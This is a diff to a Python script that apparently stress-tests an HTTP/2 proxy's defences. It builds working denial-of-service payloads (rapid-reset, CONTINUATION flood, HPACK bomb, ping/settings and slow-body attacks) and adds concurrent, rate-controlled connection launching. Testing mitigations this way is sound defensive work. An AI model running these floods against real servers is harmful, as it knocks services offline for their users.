@@ -10,9 +10,11 @@ runs one attack on each; prints how many connections the proxy closed.
   settings      SETTINGS flood, never reading the answers
   zerowindow    a request with a window of 0, never opened
   nobody        a POST that promises a body and never sends it
-Usage: h2attack.py ATTACK PORT SECONDS [PATH]
+Usage: h2attack.py ATTACK PORT SECONDS [PATH] [CONNECTIONS_PER_SECOND=20]
+A new connection starts at most CONNECTIONS_PER_SECOND times a second
+(0: as fast as the attacker can), each running its attack to the end.
 """
-import socket, struct, sys, time
+import socket, struct, sys, threading, time
 
 def frame(kind, flags, stream, payload=b""):
     return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
@@ -54,6 +56,23 @@ def drain(s, limit):
         return False
     return False
 
+BURSTS = {}
+
+def burst_for(kind, path):
+    """The attack's bytes, built once: the attacker's own CPU is not what
+    is being measured (it shares a core with the legitimate client)."""
+    if kind not in BURSTS:
+        if kind == "rapid":
+            b = b"".join(frame(1, 5, 1 + 2 * i, block(path=path)) + frame(3, 0, 1 + 2 * i, struct.pack(">I", 8)) for i in range(1000))
+        elif kind == "continuation":
+            b = frame(1, 1, 1, block(path=path)) + b"".join(frame(9, 0, 1, lit(b"x-f%d" % i, b"v")) for i in range(5000))
+        elif kind == "hpack":
+            b = frame(1, 5, 1, block(path=path) + lit(b"x-bomb", b"a" * 4000, True) + bytes([0x80 | 62]) * 1000)
+        else:
+            sys.exit(f"unknown attack {kind}")
+        BURSTS[kind] = b
+    return BURSTS[kind]
+
 def attack(kind, port, path):
     if kind in ("ping", "settings"):
         s = connect(port)
@@ -73,15 +92,8 @@ def attack(kind, port, path):
         s = connect(port)
         s.sendall(frame(1, 4, 1, block(b"POST", path, [(b"content-length", b"100")])))
     else:
+        burst = burst_for(kind, path)
         s = connect(port)
-        if kind == "rapid":
-            burst = b"".join(frame(1, 5, 1 + 2 * i, block(path=path)) + frame(3, 0, 1 + 2 * i, struct.pack(">I", 8)) for i in range(1000))
-        elif kind == "continuation":
-            burst = frame(1, 1, 1, block(path=path)) + b"".join(frame(9, 0, 1, lit(b"x-f%d" % i, b"v")) for i in range(5000))
-        elif kind == "hpack":
-            burst = frame(1, 5, 1, block(path=path) + lit(b"x-bomb", b"a" * 4000, True) + bytes([0x80 | 62]) * 1000)
-        else:
-            sys.exit(f"unknown attack {kind}")
         try:
             s.sendall(burst)
         except ConnectionError:
@@ -94,11 +106,27 @@ def attack(kind, port, path):
 def main():
     kind, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
     path = (sys.argv[4] if len(sys.argv) > 4 else "/").encode()
-    end = time.time() + seconds
-    n = closed = 0
+    rate = float(sys.argv[5]) if len(sys.argv) > 5 else 20.0
+    start = time.time()
+    end = start + seconds
+    results = []
+    def one():
+        results.append(bool(attack(kind, port, path)))
+    threads = []
+    n = 0
     while time.time() < end:
+        if rate > 0:
+            due = start + n / rate
+            if due > time.time():
+                time.sleep(due - time.time())
         n += 1
-        closed += bool(attack(kind, port, path))
-    print(f"{kind}: {n} connections, {closed} closed by the proxy")
+        t = threading.Thread(target=one, daemon=True)
+        t.start()
+        threads.append(t)
+        if rate <= 0:
+            t.join()
+    for t in threads:
+        t.join(20)
+    print(f"{kind}: {n} connections, {sum(results)} closed by the proxy")
 
 main()
